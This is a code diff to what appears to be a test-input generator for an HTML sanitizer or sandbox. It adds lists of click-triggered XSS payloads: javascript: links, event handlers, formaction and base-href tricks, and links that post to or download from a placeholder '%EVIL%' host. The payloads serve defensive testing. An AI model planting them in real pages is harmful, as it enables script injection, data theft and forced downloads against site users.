@@ -81,7 +81,7 @@ SCRIPTS = [
     f"<script src=data:text/javascript,{JS}></script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
     f"<<script>{RUN}//<</script>", f"<script><!--\n{RUN}\n--></script>", f"<svg><script>{RUN}</script></svg>",
     "<svg><script href=%EVIL%/run.js /></svg>", f"<svg><script xlink:href=data:text/javascript,{JS} /></svg>",
-    f"<svg><script>{JS.replace('%', '%')}</script></svg>", f"<math><script>{RUN}</script></math>",
+    f"<svg><script><![CDATA[{JS}]]></script></svg>", f"<math><script>{RUN}</script></math>",
     f"<select><script>{RUN}</script></select>", f"<table><script>{RUN}</script></table>",
     f"<table><tr><script>{RUN}</script></table>", f"<template><script>{RUN}</script></template>",
     f"<noscript><script>{RUN}</script></noscript>", f"<title><script>{RUN}</script></title>",
@@ -327,6 +327,35 @@ ESCAPES = [
 ]
 
 
+# What waits for a click, at the upper left. `{}` is an address.
+CLICKS = [
+    "<a style='font:60px serif' href={}>aaaa</a>", "<a style='font:60px serif' target=_top href={}>aaaa</a>",
+    "<a style='font:60px serif' target=_blank rel=opener href={}>aaaa</a>",
+    "<a style='font:60px serif' target=_parent ping=%EVIL%/ping href={}>aaaa</a>",
+    "<svg width=120 height=60><a href={}><rect width=120 height=60 /></a></svg>",
+    "<form action={} target=_top><button style='font:60px serif'>aaaa</button></form>",
+]
+PRESSED = [
+    f"<p style='font:60px serif' onclick={JS}>aaaa</p>", f"<p style='font:60px serif' onmousedown={JS}>aaaa</p>",
+    f"<p style='font:60px serif' onpointerover={JS}>aaaa</p>", f"<button style='font:60px serif' onclick={JS}>aaaa</button>",
+    f"<a style='font:60px serif' href=#a onclick={JS}>aaaa</a>", f"<body onclick={JS} style='font:60px serif'>aaaa",
+    "<form><button style='font:60px serif' formaction=javascript:%JS%>aaaa</button></form>",
+    "<form><button style='font:60px serif' formaction=%EVIL%/form formtarget=_top formmethod=post>aaaa</button></form>",
+    "<form action=%EVIL%/form method=dialog><input type=image src=%PICTURES%/x.png width=99 height=50></form>",
+    "<map name=m><area href=javascript:%JS% shape=default></map><img usemap=#m src=%PICTURES%/x.png width=99 height=50>",
+    "<map name=m><area href=%EVIL%/page.html target=_top shape=default></map><img usemap=#m src=%PICTURES%/x.png width=99 height=50>",
+    f"<details ontoggle={JS}><summary style='font:60px serif'>aaaa</summary>b</details>",
+    "<button style='font:60px serif' popovertarget=p>aaaa</button><p popover id=p style='position:fixed;inset:0'>b",
+    "<button style='font:60px serif' command=show-modal commandfor=d>aaaa</button><dialog id=d>b</dialog>",
+    "<label for=i style='font:60px serif'>aaaa</label><input id=i type=file>", "<a style='font:60px serif' href=%EVIL%/x.bin download>aaaa</a>",
+    f"<div data-link=javascript:{JS} style='font:60px serif'>aaaa</div>", f"<a data-link=javascript:{JS} href=%EVIL%/a style='font:60px serif'>aaaa</a>",
+    f"<math href=javascript:{JS}><mtext style='font:60px serif'>aaaa</mtext></math>",
+    f"<svg width=120 height=60 onclick={JS}><rect width=120 height=60 /></svg>",
+    "<svg width=120 height=60><a><animate attributeName=href values=javascript:%JS% /><rect width=120 height=60 /></a></svg>",
+    "<base href=javascript:/%JS%/><a style='font:60px serif' href=a>aaaa</a>", "<base target=_top><a style='font:60px serif' href=%EVIL%/page.html>aaaa</a>",
+]
+
+
 # Connections without a request.
 CONNECTIONS = [
     "<link rel=preconnect href=%CONNECT%>", "<link rel=preconnect crossorigin href=%CONNECT%>",
@@ -371,6 +400,15 @@ def table():
         yield Input(f"escape {number}", html, leaves=True)
     for number, html in enumerate(CONNECTIONS, 1):
         yield Input(f"connection {number}", html, leaves=True)
+
+
+def clicked():
+    """All of our own inputs that wait for a click."""
+    for (number, html), (other, address) in product(enumerate(CLICKS, 1), enumerate(ADDRESSES, 1)):
+        value = address.replace('"', "&quot;")
+        yield Input(f"click {number} with address {other}", html.replace("{}", f'"{value}"'), leaves=True)
+    for number, html in enumerate(PRESSED, 1):
+        yield Input(f"press {number}", html, leaves=True)
 
 
 # What follows an input of html5lib-tests, so that whatever the input has opened has a script in it.
